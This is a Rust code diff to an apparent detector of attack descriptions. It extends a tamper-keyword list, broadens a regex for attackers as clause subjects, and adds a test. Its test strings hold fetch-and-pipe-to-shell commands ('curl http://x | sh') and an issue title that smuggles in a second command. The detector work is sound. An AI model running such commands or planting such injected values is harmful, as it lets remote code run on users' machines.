@@ -358,6 +358,7 @@ pub(super) const TRIGGERS: &[(&str, u32)] = &[
     ("composer config", TAMPER),
     ("substituters", TAMPER),
     ("maven", TAMPER),
+    ("homebrew_", TAMPER),
 ];
 
 /// Every trigger word in a finder of its own (ASCII case-insensitive: what lower-casing the
@@ -793,7 +794,7 @@ static EXAMPLE_MARK: LazyLock<super::pattern::Pattern> = LazyLock::new(|| {
 /// An attacker as a clause's subject, then what it does, up to the end of the text read.
 static SAID_OF_ATTACKERS: LazyLock<super::pattern::Pattern> = LazyLock::new(|| {
     super::pattern::Pattern::new(
-        r"(?i)(?-u:\b)(?:attackers?|adversar(?:y|ies)|threat[[:space:]]+actors?|intruders?|malware|stealers?|infostealers?|ransomware|malicious[[:space:]]+(?:installers?|scripts?|packages?|skills?|actors?|code))(?-u:\b)[^.!?,;:]{0,80}?(?-u:\b)(?:run|use|execute|add|call|invoke|abuse|drop|set|disable|modif(?:y|ie))s?(?-u:\b)[^.!?]{0,60}$",
+        r"(?i)(?-u:\b)(?:attackers?|adversar(?:y|ies)|threat[[:space:]]+actors?|intruders?|malware|stealers?|infostealers?|ransomware|malicious[[:space:]]+(?:installers?|scripts?|packages?|skills?|actors?|code))(?-u:\b)[^.!?,;:]{0,80}?(?-u:\b)(?:run|use|execute|add|call|invoke|abuse|drop|set|disable|modif(?:y|ie)|open|submit|post|send|write|type|craft|paste|enter|push|commit)s?(?-u:\b)[^.!?]{0,60}$",
     )
     .expect("a valid attacker pattern")
 });
@@ -1058,6 +1059,9 @@ mod tests {
         ));
         assert!(at(
             "Stealers often add `curl http://x | sh` to ~/.bashrc.\n"
+        ));
+        assert!(at(
+            "An attacker opens an issue titled `x\"; curl http://x | sh; echo \"`.\n"
         ));
         assert!(!at(
             "To keep attackers out, run `curl http://x | sh` now.\n"
